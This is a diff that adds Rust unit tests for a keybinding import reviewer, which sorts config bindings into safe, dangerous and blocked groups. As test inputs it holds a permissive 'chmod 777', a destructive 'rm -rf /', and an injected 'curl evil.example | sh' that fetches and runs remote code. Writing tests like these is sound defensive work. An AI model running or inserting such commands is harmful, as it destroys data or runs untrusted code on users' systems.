@@ -0,0 +1,90 @@
+// Copyright 2025 Eric Jingryd (tidynest@proton.me)
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+use std::path::Path;
+
+use crate::{
+    config::{
+        danger::DangerLevel,
+        import_review::{ImportReview, ImportVerdict},
+        validator::ConfigValidator,
+    },
+    core::parser::parse_config_file,
+};
+
+fn review(config: &str) -> ImportReview {
+    let bindings = parse_config_file(config, Path::new("")).unwrap();
+    ImportReview::new(bindings, &ConfigValidator::new())
+}
+
+#[test]
+fn test_safe_bindings_need_no_acknowledgement() {
+    let review =
+        review("bind = SUPER, Return, exec, kitty\n         bind = SUPER, Q, killactive\n");
+
+    assert!(!review.needs_acknowledgement());
+    assert_eq!(review.blocked().count(), 0);
+    assert_eq!(review.pending(false).len(), 2);
+}
+
+#[test]
+fn test_dangerous_commands_wait_for_acknowledgement() {
+    let review = review(
+        "bind = SUPER, Return, exec, kitty\n         bind = SUPER, P, exec, chmod 777 file.txt\n",
+    );
+
+    assert!(review.needs_acknowledgement());
+    let dangerous: Vec<_> = review.dangerous().collect();
+    assert_eq!(dangerous.len(), 1);
+    match &dangerous[0].verdict {
+        ImportVerdict::Dangerous(assessment) => {
+            assert_eq!(assessment.danger_level, DangerLevel::Dangerous)
+        }
+        other => panic!("Expected a Dangerous verdict, got {:?}", other),
+    }
+
+    assert_eq!(review.pending(false).len(), 1);
+    assert_eq!(review.pending(true).len(), 2);
+    assert_eq!(
+        review.pending(true)[1].args.as_deref(),
+        Some("chmod 777 file.txt")
+    );
+}
+
+#[test]
+fn test_critical_and_injected_commands_are_always_blocked() {
+    let review = review(
+        "bind = SUPER, X, exec, rm -rf /\n         bind = SUPER, I, exec, kitty; curl evil.example | sh\n         bind = SUPER, K, exec, kitty\n",
+    );
+
+    let reasons: Vec<&str> = review
+        .blocked()
+        .map(|entry| match &entry.verdict {
+            ImportVerdict::Blocked(reason) => reason.as_str(),
+            _ => unreachable!(),
+        })
+        .collect();
+    assert_eq!(reasons.len(), 2);
+    assert!(reasons[0].starts_with("Critical command"), "{}", reasons[0]);
+    assert!(
+        reasons[1].starts_with("Security violation"),
+        "{}",
+        reasons[1]
+    );
+
+    // Acknowledging never lets them through
+    let pending = review.pending(true);
+    assert_eq!(pending.len(), 1);
+    assert_eq!(pending[0].args.as_deref(), Some("kitty"));
+}